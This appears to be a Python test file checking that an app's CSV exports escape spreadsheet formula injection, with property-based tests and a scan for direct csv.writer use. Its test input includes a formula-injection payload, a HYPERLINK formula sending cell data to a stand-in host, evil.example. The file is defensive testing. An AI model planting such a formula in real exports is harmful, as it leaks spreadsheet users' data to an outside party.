"""Issue 18 #8: every CSV a person opens in a spreadsheet goes through clickar/csvsafe.py."""
from __future__ import annotations

import csv
import io
import re
from pathlib import Path

from hypothesis import given, strategies as st

from clickar import csvsafe

ROOT = Path(__file__).resolve().parents[2] / "clickar"
# CSV written for machines, never opened by a person: COPY text for PostgreSQL, a one-row
# file handed straight to our own contract parser, `make bench`'s generated import file.
MACHINE_ONLY = {"contracts.py", "testapi/throwaway.py", "bench.py"}
FORMULA = ("=", "+", "-", "@", "\t", "\r")


def _write(rows) -> str:
    buf = io.StringIO(newline="")
    csvsafe.writer(buf, lineterminator="\r\n").writerows(rows)
    return buf.getvalue()


def test_cells_that_a_spreadsheet_would_run_are_written_as_text():
    text = _write([['=HYPERLINK("https://evil.example/?d="&A2,"x")', "+81312345678", "-2+3",
                    "@SUM(A1)", "\tcmd", "\r=1", "東京都新宿区", "", -1200, 3.5]])
    [row] = list(csv.reader(io.StringIO(text, newline="")))
    assert row == ['\'=HYPERLINK("https://evil.example/?d="&A2,"x")', "'+81312345678", "'-2+3",
                   "'@SUM(A1)", "'\tcmd", "'\r=1", "東京都新宿区", "", "-1200", "3.5"]


def test_dict_writer_escapes_values_too():
    buf = io.StringIO(newline="")
    writer = csvsafe.DictWriter(buf, ["a", "b"], lineterminator="\n")
    writer.writeheader()
    writer.writerow({"a": "=1+1", "b": 7})
    assert buf.getvalue() == "a,b\n'=1+1,7\n"


@given(st.lists(st.lists(st.text(alphabet=st.sampled_from("=+-@\t\r'a あ,\"\n"), max_size=8),
                         min_size=1, max_size=4), min_size=1, max_size=4))
def test_no_cell_starts_a_formula_and_unescape_gives_back_what_was_written(rows):
    read = list(csv.reader(io.StringIO(_write(rows), newline="")))
    assert all(cell[:1] not in FORMULA for row in read for cell in row)
    assert [[csvsafe.unescape(cell) for cell in row] for row in read] == rows


def test_every_csv_the_app_writes_uses_the_shared_writer():
    """A later export that calls csv.writer itself fails here (main's changes, renewals and
    campaign CSVs did)."""
    offenders = []
    for path in sorted(ROOT.rglob("*.py")):
        name = path.relative_to(ROOT).as_posix()
        if name == "csvsafe.py" or name in MACHINE_ONLY:
            continue
        if re.search(r"\bcsv\.(writer|DictWriter)\b", path.read_text(encoding="utf-8")):
            offenders.append(name)
    assert offenders == []
